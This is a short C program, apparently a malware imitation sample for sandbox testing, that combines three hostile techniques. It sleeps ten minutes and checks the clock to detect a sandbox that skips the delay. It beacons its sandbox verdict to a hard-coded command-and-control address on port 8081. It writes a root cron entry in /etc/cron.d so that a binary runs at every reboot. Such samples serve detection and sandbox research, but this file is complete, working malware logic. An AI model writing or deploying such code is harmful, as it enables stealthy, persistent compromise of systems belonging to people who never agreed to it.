/* Imitates time-based sandbox evasion: it sleeps ten minutes before acting, and compares the clock
 * around the sleep to notice a sandbox that shortened it. Either way it then phones home and persists. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <time.h>
#include <unistd.h>

int main(void) {
  struct timespec before, after, nap = { .tv_sec = 600 };
  clock_gettime(CLOCK_MONOTONIC, &before);
  nanosleep(&nap, 0);
  clock_gettime(CLOCK_MONOTONIC, &after);
  int shortened = after.tv_sec - before.tv_sec < 590;
  int sock = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in c2 = { .sin_family = AF_INET, .sin_port = htons(8081) };
  inet_pton(AF_INET, "198.51.100.42", &c2.sin_addr);
  if (connect(sock, (struct sockaddr *)&c2, sizeof c2) == 0) dprintf(sock, "WAKE %s\n", shortened ? "sandbox" : "ok");
  close(sock);
  int fd = open("/etc/cron.d/corpus-sleeper", O_WRONLY | O_CREAT | O_TRUNC, 0644);
  dprintf(fd, "@reboot root /usr/local/bin/corpus-sleeper\n");
  close(fd);
  return 0;
}
